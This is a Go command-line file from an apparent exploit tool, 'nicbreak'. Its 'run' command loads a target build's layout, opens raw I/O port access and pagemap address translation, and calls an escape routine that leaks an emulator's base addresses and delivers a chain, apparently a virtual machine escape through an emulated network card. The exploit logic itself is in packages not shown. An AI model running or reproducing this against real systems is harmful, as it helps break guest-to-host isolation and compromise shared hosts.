package cmd

import (
	"context"
	"fmt"
	"os"
	"os/signal"
	"runtime"

	"github.com/apex/log"
	"github.com/spf13/cobra"

	"gitlab.com/stephen-fox/nicbreak/escape"
	"gitlab.com/stephen-fox/nicbreak/ioport"
	"gitlab.com/stephen-fox/nicbreak/layout"
	"gitlab.com/stephen-fox/nicbreak/nic"
	"gitlab.com/stephen-fox/nicbreak/pagemap"
	"gitlab.com/stephen-fox/nicbreak/scripting"
)

func init() {
	rootCmd.AddCommand(runCmd)

	runCmd.Flags().StringP("layout", "l", "", "layout file of the target build")
	runCmd.Flags().IntP("stage", "s", 0, "pause before the given stage until enter is pressed")
	runCmd.Flags().Duration("settle", nic.DefaultSettle, fmt.Sprintf("maximum wait for each device (at most %s)", nic.MaxSettle))
	runCmd.MarkFlagRequired("layout")
}

var runCmd = &cobra.Command{
	Use:   "run",
	Short: "Leak the emulator's bases and deliver the chain",
	Args:  cobra.NoArgs,
	RunE: func(cmd *cobra.Command, args []string) error {
		layoutPath, _ := cmd.Flags().GetString("layout")
		stage, _ := cmd.Flags().GetInt("stage")
		settle, _ := cmd.Flags().GetDuration("settle")

		l, err := layout.Load(layoutPath)
		if err != nil {
			return err
		}

		log.WithField("build", l.Build).Info("loaded layout")

		// Port privileges belong to the thread that requested them.
		runtime.LockOSThread()
		defer runtime.UnlockOSThread()

		port, err := ioport.Open()
		if err != nil {
			return err
		}

		if Verbose {
			port = ioport.Logged(port)
		}

		translator, err := pagemap.OpenSelf(0)
		if err != nil {
			return err
		}
		defer translator.Close()

		ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt)
		defer stop()

		result, err := escape.Run(ctx, escape.Config{
			Layout:     l,
			Port:       port,
			Translator: translator,
			Stages:     &scripting.StageCtl{Goto: stage},
			Settle:     settle,
			Hexdump:    Verbose,
		})
		if err != nil {
			return err
		}

		log.WithField("trailer", fmt.Sprintf("0x%x", result.Trailer)).Info("chain delivered")

		return nil
	},
}
